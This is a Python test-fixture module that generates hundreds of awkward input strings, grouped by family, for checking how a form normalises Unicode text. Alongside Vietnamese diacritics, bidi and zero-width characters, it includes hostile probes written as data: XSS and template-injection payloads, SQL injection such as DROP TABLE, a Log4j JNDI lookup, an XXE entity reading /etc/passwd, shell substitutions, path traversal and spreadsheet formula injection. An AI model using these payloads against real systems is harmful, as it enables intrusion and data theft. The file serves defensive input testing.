# SPDX-License-Identifier: Apache-2.0
"""Strings that break careless programs, made here by rule: more than five hundred, in families that say what each one attacks.

`cleaned_line` and `cleaned_paragraphs` are the house's documented reading of a form's answer, `normalised` that of every other
text, written a second time here, so that the tests can say what "unharmed" is.
"""

import itertools
import re
import unicodedata

NAMES = (
    "Nguyễn Thị Hoa", "Đặng Quỳnh Ngọc Ỹ", "Lường Văn Thưởng", "Trịnh Đình Quốc Khuê", "Hoàng Ước Nguyện", "Phạm Hữu Nghĩa", "Vũ Thuỳ Dương",
    "Bế Thị Bưởi", "Triệu Mùi Pham", "Y Brơng Êban")
VOWELS = "aăâeêioôơuưyAĂÂEÊIOÔƠUƯY"
TONES = "\u0300\u0301\u0309\u0303\u0323"


def decomposed_vietnamese():
    """The same letters spelt with marks of their own: wholly, in parts, and with the marks in the wrong order."""
    yield from (unicodedata.normalize("NFD", name) for name in NAMES)
    # The old Windows keyboards: a ready vowel, then its tone.
    yield from ("Trẻ " + "".join(vowel + tone for tone in TONES) for vowel in VOWELS)
    yield from ("a" + "".join(order) + "n" for order in itertools.permutations("\u0302\u0323\u0301", 3))
    yield "\u0110ường Cách mạng Tháng 8, ngõ 1/2, số 3B"
    yield "\u00d0ặng (không phải Đ)"


def stacked_marks():
    for count in (2, 5, 10, 20, 30):
        yield "Z" + "\u0335\u0311\u0348\u0301\u0320"[:5] * count + "algo"
    yield from (f"o{chr(mark)}i" for mark in range(0x0310, 0x0330))
    yield "\u0301dấu đứng đầu"


def right_to_left():
    yield from ("مرحبا بالعالم", "שלום עולם", "Nguyễn مرحبا Hoa", "123 שלום 456", "السلام عليكم", "فارسی", "اردو متن", "ދިވެހި", "ܣܘܪܝܝܐ", "ߒߞߏ")
    yield from ("(שלום)", "עברית, English, tiếng Việt", "١٢٣٤٥٦٧٨٩٠", "۱۲۳۴۵", "مَرْحَبًا", "ﷺ", "ﷲ")


def bidirectional_controls():
    for mark in "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        yield f"Hoa{mark}gpj.exe"
        yield f"{mark}Hoa"


def zero_width():
    for mark in "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u00ad\ufeff\u180e\u034f":
        yield f"Nguyễn{mark}Hoa"
        yield f"Hoa{mark}{mark}"


def blank_looking():
    for space in "\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f\u3000\u2800\u3164\u115f":
        yield f"Hoa{space}Lan"
    yield from ("\t", "   ", "\u00a0", "\u3000", "\u200b", "\u2800", "Hoa  Lan", " Hoa ")


def emoji():
    yield from ("😀", "👍🏽", "❤️", "☺︎", "🇻🇳", "1️⃣", "#️⃣", "🏴", "🥷", "🫠", "👩", "Hoa 🌸 Lan", "😀" * 40)
    # Sequences held together by the zero-width joiner and by tags.
    yield from ("👨‍👩‍👧‍👦", "👩🏾‍💻", "🏳️‍🌈", "🐕‍🦺", "👩‍❤️‍💋‍👨", "🧑🏻‍🤝‍🧑🏿")
    yield "🏴" + "".join(chr(0xE0000 + ord(letter)) for letter in "gbsct") + "\U000e007f"
    yield from (face + chr(tone) for face in "👋👆🙏💪" for tone in range(0x1F3FB, 0x1F400))


def beyond_the_basic_plane():
    yield from ("𠮷野家", "𡨸喃", "𠀀𠀁", "𝒩𝑔𝓊𝓎ễ𝓃", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "𐌰𐌱𐌲", "𓀀𓁀", "𝟘𝟙𝟚𝟛", "𐍈", "🀄", "🂡", "𝄞", "𞤀𞤣𞤤𞤢𞤥", "𐎀", "\U0002f800", "\U0001f9e6")
    yield from (chr(0x20000 + step * 997) + "名" for step in range(10))


def noncharacters():
    yield from (f"a{chr(point)}b" for point in (0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF, 0x10FFFE, 0x10FFFF))
    # Private use and specials.
    yield from (f"a{chr(point)}b" for point in (0xE000, 0xF8FF, 0xF0000, 0x10FFFD, 0xFFFC, 0xFFFD, 0xFFF9, 0xFFFA, 0xFFFB))


def control_characters():
    yield from (f"a{chr(point)}b" for point in itertools.chain(range(0x00, 0x20), range(0x7F, 0xA0)))
    yield "\x1b[31mđỏ\x1b[0m"
    yield "\x1b]0;tên cửa sổ\x07"


def kinds_of_line_end():
    yield from (f"dòng một{end}dòng hai" for end in ("\n", "\r", "\r\n", "\n\r", "\u2028", "\u2029", "\x85", "\v", "\f", "\n\n\n"))
    yield from ("\nHoa", "Hoa\n", "\r\nHoa\r\n", "a\\nb", "a%0d%0aSet-Cookie:x=1", "a\r\nSet-Cookie: x=1", "a\r\n\r\n<html>", "a\nBcc: ai@example.vn")


def byte_order_marks():
    yield from ("\ufeffHoa", "Hoa\ufeff", "Ho\ufeffa", "ï»¿Hoa", "\ufffeHoa", "þÿHoa")


def surrogates_in_disguise():
    yield from ("\\ud800", "\\uD83D\\uDE00", "\\u0000", "%ED%A0%80", "&#xD800;", "&#55296;", "\\x00", "%00", "&#0;", "í\xa0\x80", "\\U0010FFFF", "�")


def html():
    tags = ("script", "img", "svg", "iframe", "body", "details", "input", "a", "math", "style", "link", "meta", "base", "form", "textarea", "title")
    yield from (f"<{tag} onload=alert(1) onerror=alert(1) src=x href=javascript:alert(1)>" for tag in tags)
    yield from (f"</{tag}><script>alert('{tag}')</script>" for tag in tags)
    yield from (
        '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "<!--", "-->", "<![CDATA[", "]]>", "<b>đậm</b>", "a < b > c & d", "&lt;b&gt;",
        "&amp;amp;", "&nbsp;", "&#60;script&#62;", "<scr<script>ipt>", "<\u0000script>", "＜script＞alert(1)＜/script＞", "<script", "<SCRIPT SRC=//x>",
        "`onmouseover=alert(1)", "' autofocus onfocus=alert(1) x='", '" style="position:fixed', "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")


def scripts_and_templates():
    yield from (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "${alert(1)}", "{{7*7}}", "{{constructor.constructor('alert(1)')()}}",
        "<%= 7*7 %>", "#{7*7}", "\\(7*7)", "%{7*7}", "@(7*7)", "[[${7*7}]]", "{% raw %}", "${jndi:ldap://x.example/a}", "__proto__", "constructor", "prototype",
        "toString", "hasOwnProperty", "*/alert(1)/*", "//", "/*", "*/", "';alert(1);//", "\\';alert(1);//", "</script>", "]]>", "\u2028alert(1)")


def sql():
    for quote in ("'", '"', "`", "’", "ʼ", "\\'"):
        yield from (f"Hoa{quote}", f"{quote} OR 1=1 --", f"{quote}; DROP TABLE dossiers; --", f"{quote} UNION SELECT 1,2,3 --")
    yield from ("1;SELECT pg_sleep(9)", "%", "_", "\\", "a%b_c", "$1", "$$", "?1", ":name", "@name", "NULL--", "1/**/OR/**/1", "0x41", "CHAR(65)", "\\x41", "D'Arc", "O''Brien")


def formulas():
    for sign in "=+-@\t\r|%":
        yield from (f"{sign}1+1", f"{sign}cmd|' /C calc'!A0", f'{sign}HYPERLINK("http://x.example","bấm")')
    yield from ("a,b", 'a"b', "a;b", 'a","b', '"', '""', ",,,", "a\tb", "=SUM(A1:A9)", "＝1+1", "-", "+84 900 000 001", "-5")


def typesetting():
    yield from (
        "#set page(width: 1cm)", "#panic(\"x\")", "$x^2$", "*đậm*", "_nghiêng_", "@label", "<label>", "= Tiêu đề", "- mục", "+ mục", "/ từ: nghĩa", "#read(\"/etc/passwd\")",
        "\\input{/etc/passwd}", "\\write18{id}", "%!PS", "(a) Tj ET", ")) Tj (", "\\)", "\\(", "<< /Type /Page >>", "endstream endobj", "`raw`", "```", "~", "\\\\", "--", "...", "'\"")


def shell():
    yield from (
        "; id", "| id", "&& id", "|| id", "`id`", "$(id)", "$(touch /x)", "${HOME}", "$HOME", "~root", "*", "?", "!!", "> /dev/null", "< /etc/passwd", "2>&1", "\\$(id)",
        "--help", "-rf /", "--version", "-", "a\\", "%PATH%", "a & b", "^a", "'; exit 1; '", "$IFS")


def directories_and_formats():
    yield from ("*)(uid=*))(|(uid=*", "admin)(&)", "\\2a", "cn=a,dc=b", "(|(a=*))", "' or '1'='1", "//*", "count(/)", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")
    yield from ("%s", "%n", "%x%x%x%x", "%d%d", "%@", "%1$s", "{0}", "{}", "%99999999d", "%%", "%p", "%.1024f", "\\u{41}", "$0", "%5B%5D", "{\"a\":1}", "[1,2]", "a: b", "- a", "!!python/object:x", "&a *a", "|", ">")


def paths():
    yield from (
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\con", "....//....//", "%2e%2e%2f", "..%c0%af", "file:///etc/passwd", "\\\\may\\chung", "CON", "NUL", "COM1.pdf",
        ".", "..", ".htaccess", "a/b", "a\\b", "a:b", "con.txt ", "a.pdf.exe", "http://x.example/", "//x.example", "?a=b", "#a", "a%2fb", "-rf")


def numbers_in_disguise():
    yield from (
        "0", "-0", "00", "1e5", "1E400", "NaN", "Infinity", "-Infinity", "1/0", "0x10", "0b1", "1_000", "1,000", "1.000", "1.000,5", "٣", "१२", "１２３", "½", "Ⅻ", "①", "²", "1²", "𝟙",
        "9007199254740993", "99999999999999999999", "-9223372036854775809", "1.7976931348623159e308", "2026-02-30", "31/02/2026", "12:60", "0900000001", "+84900000001", "019190000000",
        "1.", ".1", "--1", "+1", "1 000", "0.1e-999", "1-2-3", "3/4")


def words_for_nothing():
    yield from (
        "null", "NULL", "Null", "nil", "None", "undefined", "NaN", "true", "false", "TRUE", "yes", "no", "N/A", "n/a", "(null)", "(rỗng)", "không", "-", "—", ".", "?", "x", "0", "void", "NIL",
        "[object Object]", "Optional(nil)", "test", "admin", "root", "system", "Người dùng đã xoá")


def lookalikes():
    yield from (
        "Nguуen (у Kirin)", "Ηоа", "раypаl", "Аdmin", "ɡооɡle", "Hօa", "Ｈｏａ", "ℋ𝑜𝒶", "Hοa", "𝙃𝙤𝙖", "ⓗⓞⓐ", "🄷🄾🄰", "ĳ ﬀ ﬁ ﬂ ﬃ ﬄ", "ǅ", "ß ẞ", "İ ı i I", "ſ", "K Å Ω", "™ ℠ ©", "℀ ℅ №", "ﬅ", "㎏ ㏕",
        "Đ Ð Ɖ", "‐ ‑ ‒ – — ―", "‘ ’ ‚ ‛ “ ”", "ʻ ʼ ʽ", "〇 ○ ◯ 0", "｡ 。 ．", "／ ∕ ⁄")


def other_scripts():
    yield from (
        "田中さんにあげて下さい", "パーティーへ行かないか", "部落格", "사회과학원", "ไทย ภาษา", "ꪼꪕꪣ", "ᥖᥭᥰ", "ភាសាខ្មែរ", "ລາວ", "မြန်မာ", "हिन्दी क्षत्रिय", "தமிழ்", "తెలుగు జ్ఞా", "മലയാളം", "සිංහල", "ქართული", "Հայերեն", "አማርኛ",
        "Ελληνικά", "Русский", "ᏣᎳᎩ", "ᐃᓄᒃᑎᑐᑦ", "ꦲꦏ꧀ꦱꦫ", "བོད་ཡིག", "ᠮᠣᠩᠭᠣᠯ", "ꯃꯤꯇꯩ", "𑄌𑄋𑄴𑄟𑄳𑄦", "ﾊﾝｶｸ", "(｡◕ ∀ ◕｡)", "¯\\_(ツ)_/¯", "(╯°□°）╯︵ ┻━┻", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤")


def symbols():
    yield from ("!@#$%^&*()", "`~-_=+[]{}\\|;:'\",<.>/?", "¡™£¢∞§¶•ªº–≠", "€ ₫ ¥ ₿", "Ω≈ç√∫˜µ≤≥÷", "⁰⁴⁵₀₁₂", "♥ ☭ ☯ ☠", "←↑→↓⇒", "█▓▒░", "∀∂∈ℝ∧∪≡∞", "1.234.567 ₫", "№ 12/2026/NĐ-CP", "§ 5", "50 %", "36,6 °C", "m²", "½ kg")


def very_long():
    yield "a" * 1_000
    yield "ễ" * 10_000
    yield "một hai " * 1_250
    yield unicodedata.normalize("NFD", "Nguyễn ") * 1_400
    yield "😀" * 10_000
    yield "<b>" * 3_334
    yield "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft"
    yield "x" * 99
    yield "ế" * 100
    yield "y" * 101
    yield "\n" * 10_000 + "z"
    yield "a" + "\u0301" * 9_999


FAMILIES = {
    family.__name__.replace("_", " "): tuple(dict.fromkeys(family()))
    for family in (
        decomposed_vietnamese, stacked_marks, right_to_left, bidirectional_controls, zero_width, blank_looking, emoji, beyond_the_basic_plane, noncharacters,
        control_characters, kinds_of_line_end, byte_order_marks, surrogates_in_disguise, html, scripts_and_templates, sql, formulas, typesetting, shell,
        directories_and_formats, paths, numbers_in_disguise, words_for_nothing, lookalikes, other_scripts, symbols, very_long)
}
ALL = [(family, text) for family, texts in FAMILIES.items() for text in texts]


def sample(count=1):
    """The first strings of every family: what browsers are given, for whom five hundred are too many."""
    return [(family, text) for family, texts in FAMILIES.items() for text in texts[:: max(1, len(texts) // count)][:count]]


SPACES = "".join(chr(point) for point in range(0x3001) if chr(point).isspace() and not 0x1C <= point <= 0x1F)


def normalised(text):
    """What every text is on its way in: composed, without white space at its ends."""
    return unicodedata.normalize("NFC", text).strip(SPACES)


def visible(text):
    """Without what cannot be seen: control characters but line ends and tabs, format characters, private use, noncharacters.
    Joiners inside a pictograph or an Indic letter and the tags of a flag are seen by what they do."""
    kept = ""
    for one in text:
        if unicodedata.category(one) not in ("Cc", "Cf", "Cs", "Co", "Cn") or one in "\n\r\t" or (kept and shapes(one, kept[-1])):
            kept += one
    return kept


def shapes(one, last):
    is_virama, is_pictograph = unicodedata.combining(last) == 9, last == "\ufe0f" or last in "❤🐕👁" or 0x1F300 <= ord(last) <= 0x1FAFF
    if one == "\u200c":
        return is_virama
    if one == "\u200d":
        return is_virama or is_pictograph
    return 0xE0020 <= ord(one) <= 0xE007F and (ord(last) == 0x1F3F4 or 0xE0020 <= ord(last) <= 0xE007E)


def cleaned_line(text):
    """How a form's question of one line reads an answer."""
    return normalised(" ".join(part for part in re.split(f"[{SPACES}]+", visible(normalised(text))) if part))


def cleaned_paragraphs(text):
    """How a form's question of several lines reads an answer."""
    return normalised("\n".join(re.split("\r\n|[\n\r\v\f\x85\u2028\u2029]", visible(normalised(text)))))
